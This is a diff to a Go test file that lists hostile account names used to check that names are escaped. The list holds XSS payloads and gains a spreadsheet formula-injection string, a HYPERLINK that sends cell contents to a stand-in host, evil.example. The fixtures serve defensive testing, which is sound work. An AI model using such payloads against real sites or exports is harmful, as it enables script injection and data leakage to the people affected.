@@ -19,11 +19,13 @@ import (
 // generated company whose account names are script-injection attempts.
 var testData wh.Dir
 
-// xssNames are account names that must never run as script anywhere.
+// xssNames are account names that must never run as script anywhere,
+// nor as a formula in a spreadsheet opening an export.
 var xssNames = []string{
 	`<script>alert(1)</script>`,
 	`"};alert(1);//`,
 	`</script><img src=x onerror=alert(1)>`,
+	`=HYPERLINK("http://evil.example/?alert="&A1,"click")`,
 }
 
 func TestMain(m *testing.M) {
